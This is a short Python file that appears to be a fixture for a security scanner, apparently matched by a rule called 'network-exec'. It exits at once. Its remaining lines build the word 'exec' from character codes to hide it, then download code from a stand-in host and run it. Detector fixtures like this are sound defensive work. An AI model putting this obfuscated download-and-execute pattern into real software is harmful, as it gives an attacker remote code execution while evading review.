raise SystemExit('a fixture')
# held by network-exec
f = "".join(map(chr, [101, 120, 101, 99]))
getattr(__import__("builtins"), f)(__import__("urllib.request", fromlist=["x"]).urlopen("http://192.0.2.2/a").read())
